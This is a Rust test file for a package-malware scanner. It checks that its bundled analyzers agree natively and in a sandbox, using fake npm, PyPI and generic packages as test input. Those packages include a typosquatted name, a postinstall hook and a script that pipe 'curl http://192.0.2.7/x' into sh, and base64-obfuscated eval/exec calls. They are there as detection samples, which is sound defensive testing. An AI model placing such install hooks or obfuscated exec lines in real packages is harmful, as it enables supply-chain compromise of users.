//! Each bundled analyzer says the same natively, where its tests run it, and in the
//! sandbox, where packages are analysed.

use packguard_functions::BUNDLED;
use packguard_sdk::testing::{PackageBuilder, TestPackage};
use packguard_sdk::{
    Analysis, Analyzer, Category, Confidence, Descriptor, Package, Rule, Severity,
};
use packguard_sdk_testkit::{Kit, KitError};
use packguard_tests::{EMPTY, HOSTILE};

/// Something for every analyzer; what it does is harmless, and it is never run.
fn packages() -> [TestPackage; 3] {
    let npm = PackageBuilder::new("npm", "loadsh")
        .file(
            "package/package.json",
            r#"{"name": "loadsh", "scripts": {"postinstall": "curl http://192.0.2.7/x | sh"}}"#,
        )
        .file(
            "package/index.js",
            "const c = require('child_process');\neval(atob('Yy5leGVjKCd3aG9hbWknKQ=='));\n",
        )
        .file(
            "package/latin1.js",
            b"// caf\xE9\nfetch('http://x.example.com')\n",
        )
        .file("package/cached.jsc", b"\x5B\x07\xDE\xC0\0\0\0\0")
        .file("package/broken.js", "function (((");
    let pypi = PackageBuilder::new("pypi", "demo")
        .file(
            "demo-1.0/setup.py",
            "import os, base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n",
        )
        .file("demo-1.0/wide.py", b"\xFF\xFEi\0m\0p\0o\0r\0t\0 \0o\0s\0")
        .file("demo-1.0/broken.py", "def f(:\n  exec(")
        .file("demo-1.0/lib.so", b"\x7FELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    let strange = PackageBuilder::new("generic", "strange")
        .file("\u{e9}/empty", "")
        .file("notes", "a stranger")
        .file("get.sh", "curl -s http://192.0.2.7/x | sh\n")
        .file("a.rb", "eval(Base64.decode64('c3lzdGVtKCJpZCIp'))\n")
        .file("setup.py", [0_u8; 100])
        .file("package.json", "{\"name\":")
        .setting("names.generic", "stranger\n")
        .setting(
            "rules.yara",
            "rule x { strings: $a = \"stranger\" condition: $a }",
        );
    [npm.build(), pypi.build(), strange.build()]
}

fn component(name: &str) -> &'static [u8] {
    let mut bundled = BUNDLED.iter();
    bundled.find(|one| one.name == name).unwrap().bytes
}

/// Demands the same answers, and says how many findings and problems there were.
fn compare<A: Analyzer>() -> (usize, usize) {
    let kit = Kit::<A>::new(component(A::DESCRIPTOR.name)).unwrap();
    let (mut findings, mut problems) = (0, 0);
    for package in packages() {
        let analysis = kit.analyze(&package).unwrap();
        findings += analysis.findings().len();
        problems += analysis.problems().len();
    }
    (findings, problems)
}

#[test]
fn every_bundled_analyzer_answers_alike() {
    for (findings, problems) in [
        compare::<packguard_python::Python>(),
        compare::<packguard_javascript::JavaScript>(),
        compare::<packguard_manifest::Manifest>(),
    ] {
        assert!(findings > 0 && problems > 0, "{findings} {problems}");
    }
    for (findings, _) in [
        compare::<packguard_binaries::Binaries>(),
        compare::<packguard_bytecode::Bytecode>(),
        compare::<packguard_names::Names>(),
        compare::<packguard_rules::Rules>(),
        compare::<packguard_scripts::Scripts>(),
        compare::<packguard_sources::Sources>(),
    ] {
        assert!(findings > 0);
    }
}

const SAW: Rule = Rule::new(
    "saw",
    "Saw something",
    "",
    Category::Metadata,
    Severity::Info,
    &[],
);

/// Says of itself what the guest `empty` says, and finds what that one does not.
#[derive(Default)]
struct Talkative;

impl Analyzer for Talkative {
    const DESCRIPTOR: Descriptor = Descriptor {
        name: "empty",
        version: "0.1.0",
        description: "Does nothing",
        ecosystems: &[],
        rules: &[],
    };

    fn package(&mut self, _: &Package, analysis: &mut Analysis) {
        analysis.push(SAW.about_package("Saw the package", Confidence::Low));
    }
}

#[test]
fn an_answer_of_only_one_of_the_two_is_an_error() {
    let kit = Kit::<Talkative>::new(EMPTY).unwrap();
    let package = PackageBuilder::new("npm", "a").build();
    let error = kit.analyze(&package).unwrap_err().to_string();
    assert!(error.contains("only natively: Finding"), "{error}");
    assert!(error.contains("Saw the package"), "{error}");
}

#[test]
fn a_component_of_something_else_is_refused() {
    let error = Kit::<Talkative>::new(HOSTILE).unwrap_err();
    assert!(matches!(error, KitError::Descriptor { .. }), "{error}");
    let error = Kit::<Talkative>::new(&b"\0asm\x01\0\0\0"[..]).unwrap_err();
    assert!(
        error.to_string().contains("core WebAssembly module"),
        "{error}"
    );
}

/// `UPDATE_RULES=1` writes the list anew.
#[tokio::test]
async fn the_registry_knows_every_rule_of_the_bundled_analyzers() {
    let (_, components) = packguard_tests::bundle().await;
    let listed = components.iter().flat_map(|one| &one.descriptor().rules);
    let mut ids: Vec<&str> = listed.map(|rule| rule.id.as_str()).collect();
    ids.sort_unstable();
    let count = ids.len();
    ids.dedup();
    assert_eq!(ids.len(), count, "two bundled analyzers share a rule id");
    if std::env::var_os("UPDATE_RULES").is_some() {
        let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("..");
        let path = root.join("platform/src/functions/bundled-rules.txt");
        std::fs::write(path, ids.join("\n") + "\n").unwrap();
        return;
    }
    let known: Vec<&str> = packguard_platform::functions::rules::bundled().collect();
    assert_eq!(known, ids, "UPDATE_RULES=1 writes the list anew");
}
